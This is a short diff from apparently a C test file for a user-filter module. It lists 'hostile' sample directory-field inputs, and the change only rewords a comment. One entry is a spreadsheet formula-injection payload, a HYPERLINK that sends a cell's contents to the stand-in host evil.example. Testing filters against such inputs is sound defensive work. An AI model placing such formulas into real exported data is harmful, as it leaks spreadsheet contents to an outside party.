@@ -20,7 +20,7 @@
 #include "muster-user-filter.h"
 
 /* What admins' directories really contain now and then, and what an attacker would type into
- * their own profile (graph-facts' fields are free text). */
+ * their own profile (the directory's fields are free text). */
 static const char * const hostile[] = {
   "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
   "+44 20 7946 0000",
